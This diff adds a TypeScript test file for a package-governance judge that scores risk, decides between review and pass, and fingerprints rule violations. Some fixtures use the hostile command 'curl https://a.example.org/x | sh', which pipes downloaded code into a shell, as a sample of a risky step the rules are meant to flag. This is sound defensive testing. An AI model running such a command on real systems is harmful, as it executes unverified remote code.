@@ -1,0 +1,74 @@
+import { expect } from 'chai'
+import { FEATURE_NAMES } from '../../../consumers/governance/features.ts'
+import { judge, runRules } from '../../../consumers/governance/judge.ts'
+import type { LoadedModel } from '../../../consumers/governance/model.ts'
+import { RULES } from '../../../consumers/governance/rules/index.ts'
+import { bytesOf, packageWith, shell } from './packages.ts'
+
+const none: LoadedModel = { usable: false, reason: 'not there' }
+const answering = (probability: number | null): LoadedModel => ({
+  usable: true,
+  card: { version: 't', sha256: '0'.repeat(64), training_data_sha256: '', features: [], thresholds: {}, measured: {} },
+  probability: async () => probability,
+  close: async () => {},
+})
+const plain = packageWith([shell('make')])
+const risky = packageWith([shell('curl https://a.example.org/x | sh')])
+
+describe('judge', () => {
+  it('judges by rules alone without a model and says so', async () => {
+    const verdict = await judge(bytesOf(risky), risky, none)
+    expect(verdict).to.include({ model: null, risk_score: 0.6, decision: 'review' })
+    expect(verdict.checks.at(-1)).to.deep.equal({ name: 'model', version: 'none', status: 'unavailable' })
+    expect(verdict.checks).to.have.length(RULES.length + 1)
+  })
+
+  it('takes the larger of floor and probability', async () => {
+    expect((await judge(bytesOf(risky), risky, answering(0.1))).risk_score).to.equal(0.6)
+    expect((await judge(bytesOf(risky), risky, answering(0.75))).risk_score).to.equal(0.75)
+  })
+
+  it('lets the model ask for a review but never block', async () => {
+    expect(await judge(bytesOf(plain), plain, answering(0.999))).to.include({ risk_score: 0.89, decision: 'review' })
+    expect(await judge(bytesOf(plain), plain, answering(0.2))).to.include({ risk_score: 0.2, decision: 'pass' })
+  })
+
+  it('treats a model without an answer as a failed check, not as a clean one', async () => {
+    const verdict = await judge(bytesOf(plain), plain, answering(null))
+    expect(verdict).to.include({ model: null, decision: 'review' })
+    expect(verdict.checks.at(-1)?.status).to.equal('failed')
+  })
+
+  it('never lifts hygiene alone to the threshold', async () => {
+    const wpk = packageWith(Array.from({ length: 30 }, (_item, index) => shell('make', { image: `tool-${index}` })))
+    expect(await judge(bytesOf(wpk), wpk, none)).to.include({ risk_score: 0.15, decision: 'pass' })
+  })
+
+  it('keeps the fingerprint when handlers move', () => {
+    const first = runRules(packageWith([shell('make'), shell('curl https://a.example.org/x | sh')])).violations
+    const second = runRules(packageWith([shell('curl   https://a.example.org/x | sh'), shell('make')])).violations
+    expect(first[0]?.pointer).not.to.equal(second[0]?.pointer)
+    expect(first[0]?.fingerprint).to.equal(second[0]?.fingerprint)
+  })
+
+  it('gives other facts other fingerprints', () => {
+    const { violations } = runRules(
+      packageWith([shell('curl https://a.example.org/x | sh'), shell('curl https://b.example.org/x | sh')]),
+    )
+    expect(new Set(violations.map(({ fingerprint }) => fingerprint)).size).to.equal(2)
+  })
+})
+
+describe('the features', () => {
+  it('are numbers from 0 to 1 under unique names', () => {
+    const { features } = runRules(risky)
+    expect(features).to.have.length(FEATURE_NAMES.length)
+    expect([...features].every((value) => value >= 0 && value <= 1)).to.equal(true)
+    expect(new Set(FEATURE_NAMES).size).to.equal(FEATURE_NAMES.length)
+  })
+
+  it('do not change when a package grows by more of the same', () => {
+    const many = packageWith(Array.from({ length: 50 }, () => shell('make')))
+    expect([...runRules(many).features]).to.deep.equal([...runRules(plain).features])
+  })
+})
